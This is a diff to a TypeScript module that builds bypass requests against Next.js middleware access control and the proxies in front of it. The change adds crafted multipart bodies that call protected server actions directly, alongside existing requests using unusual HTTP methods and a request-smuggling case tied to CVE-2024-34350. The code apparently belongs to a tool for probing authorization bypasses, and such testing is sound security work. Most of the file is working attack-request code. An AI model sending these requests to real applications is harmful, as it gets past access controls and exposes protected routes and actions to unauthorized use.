@@ -1,4 +1,5 @@
 // The known ways past a doorkeeper of Next.js, and past proxies in front of one, as requests for an inner path.
+import { takenBy } from '../../proxy/put-well';
 import type { Advisory, Bypass } from './advisories';
 import { awayTo } from './bypass-away';
 import { byHeader } from './bypass-headers';
@@ -122,19 +123,34 @@ function byForm(path: string, what: string, segment: string, build: string): Byp
   return forms.map(([target, known]) => ({ name: `${what} as ${target}`, target, known }));
 }
 
+/** What an action is sent by script, so that nothing but the way is left to refuse. */
+function called(id: string) {
+  const taken = takenBy(id);
+  if (taken === 0) return { type: 'text/plain;charset=UTF-8', body: '[]' };
+  const given = JSON.stringify([...[null, {}].slice(3 - taken), '$K1']);
+  const part = `Content-Disposition: form-data; name="0"\r\n\r\n${given}`;
+  return { type: 'multipart/form-data; boundary=x', body: `--x\r\n${part}\r\n--x--\r\n` };
+}
+
 function byMethod(inner: string, actions: string[]): Bypass[] {
   const form = { 'content-type': 'application/x-www-form-urlencoded', 'content-length': '0' };
   return [
     ...['HEAD', 'OPTIONS', 'TRACE', 'PUT', 'PATCH', 'DELETE', 'POST', 'PROPFIND', 'PURGE'].map(
       (method) => ({ name: method, target: inner, method, headers: form }),
     ),
-    ...actions.map((id) => ({
-      name: `the action ${id}`,
-      target: inner,
-      method: 'POST',
-      headers: { 'next-action': id, 'content-type': 'text/plain', 'content-length': '2' },
-      body: '[]',
-    })),
+    ...actions.map((id) => {
+      const { type, body } = called(id);
+      return {
+        name: `the action ${id}`,
+        target: inner,
+        method: 'POST',
+        headers: {
+          ...{ 'next-action': id, 'content-type': type },
+          'content-length': String(Buffer.byteLength(body)),
+        },
+        body,
+      };
+    }),
     {
       name: 'two lengths',
       known: 'CVE-2024-34350',
